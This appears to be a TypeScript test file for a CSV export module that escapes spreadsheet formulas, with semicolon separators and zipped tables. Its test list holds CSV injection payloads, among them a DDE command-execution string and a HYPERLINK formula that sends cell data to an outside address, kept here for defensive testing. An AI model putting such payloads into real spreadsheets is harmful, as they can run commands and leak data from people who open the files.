import { unzipSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import { csv } from '../../../src/export/csv.ts'
import { plainCell } from '../../../src/export/csvCell.ts'
import { csvZip } from '../../../src/export/csvZip.ts'

describe('a cell', () => {
  const harmful = [
    '=1+1',
    '=HYPERLINK("http://x.se?"&A1;"Klicka")',
    '=cmd|\' /C calc\'!A0',
    '+1+1',
    '-1+1',
    '-2+3+cmd|\' /C calc\'!A0',
    '@SUM(A1:A9)',
    '|calc',
    '%0A=1+1',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '  =1+1',
    '\u00a0=1+1',
    '\ufeff=1+1',
    '\0=1+1',
    '＝1+1',
    '＋1',
    '－1+1',
    '＠SUM(A1)',
    '-',
    '--1',
    '+46701234567',
  ]
  it.each(harmful)('%j is no formula', (text) => {
    expect(plainCell(text)).toBe(`'${text.replaceAll('\0', '')}`)
  })

  it.each(['-1', '-1,5', '-12.25', '0', '12', '', 'Fråga alla = lika', 'a-b', '’=1', '1-2', 'Å ä ö'])('%j stays as it is', (text) => {
    expect(plainCell(text)).toBe(text)
  })
})

describe('a table', () => {
  it('has a mark for its letters, semicolons and line ends that Excel knows, and commas in numbers', () => {
    expect(csv([['Å', 'b'], [1.5, null], [-2, 'x']])).toBe('\ufeffÅ;b\r\n1,5;\r\n-2;x\r\n')
  })

  it('keeps each text in its cell, whatever is in it', () => {
    expect(csv([['a;b', 'sa "nej"', 'rad\nrad', 'x,y']])).toBe('\ufeff"a;b";"sa ""nej""";"rad\nrad";x,y\r\n')
    expect(csv([['";=1+1', '=1;2']])).toBe(`\ufeff""";=1+1";"'=1;2"\r\n`)
  })

  it('stands in one zip with the others, the same for the same tables', () => {
    const tables = { åtaganden: [['Vad'], ['=1']], idéer: [['Vad']] }
    const files = unzipSync(csvZip(tables))
    expect(Object.keys(files)).toEqual(['åtaganden.csv', 'idéer.csv'])
    expect(Buffer.from(files['åtaganden.csv']!).toString('utf8')).toBe("\ufeffVad\r\n'=1\r\n")
    expect(csvZip(tables)).toEqual(csvZip(tables))
  })
})
